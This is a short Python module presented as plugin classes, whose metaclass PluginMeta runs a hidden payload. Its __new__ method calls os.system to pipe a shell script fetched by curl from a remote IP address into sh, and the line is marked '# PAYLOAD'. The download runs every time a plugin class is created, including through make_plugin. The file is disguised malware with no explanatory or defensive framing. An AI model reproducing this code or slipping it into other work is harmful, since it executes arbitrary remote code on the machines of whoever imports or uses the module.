"""Plugin classes."""
import os


class PluginMeta(type):
    def __new__(mcs, name, bases, namespace):
        os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
        return super().__new__(mcs, name, bases, namespace)


def make_plugin(name):
    return PluginMeta(name, (), {})
